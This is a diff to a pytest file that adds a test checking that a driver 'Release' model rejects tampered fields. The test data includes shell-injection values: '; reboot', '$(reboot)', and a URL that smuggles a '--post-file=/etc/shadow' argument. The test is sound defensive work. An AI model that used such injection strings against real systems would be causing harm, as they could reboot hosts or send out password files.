@@ -9,6 +9,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from pydantic import ValidationError
 
 from freehold import nvidia
 from freehold.nvidia import Claim, Guest, NodeDriver, Release, Trouble
@@ -274,3 +275,20 @@ def test_claims_survive_their_file() -> None:
 def test_a_release_is_noted_as_one_line() -> None:
     assert "\n" not in RELEASE.model_dump_json()
     assert Release.model_validate(json.loads(RELEASE.model_dump_json())) == RELEASE
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [
+        {"version": "580.178.04; reboot"},
+        {"version": "$(reboot)"},
+        {"url": "https://example.org/x.run' --post-file=/etc/shadow"},
+        {"sha256": "0" * 63},
+    ],
+)
+def test_a_release_is_nothing_but_a_release_because_roots_shell_sees_it(wrong: dict[str, str]) -> None:
+    told = {**RELEASE.model_dump(), **wrong}
+
+    with pytest.raises(ValidationError):
+        Release.model_validate(told)
+    assert NodeDriver.parse(f"running\t6.17.2-1-pve\ncached\t{json.dumps(told)}").cache == ()
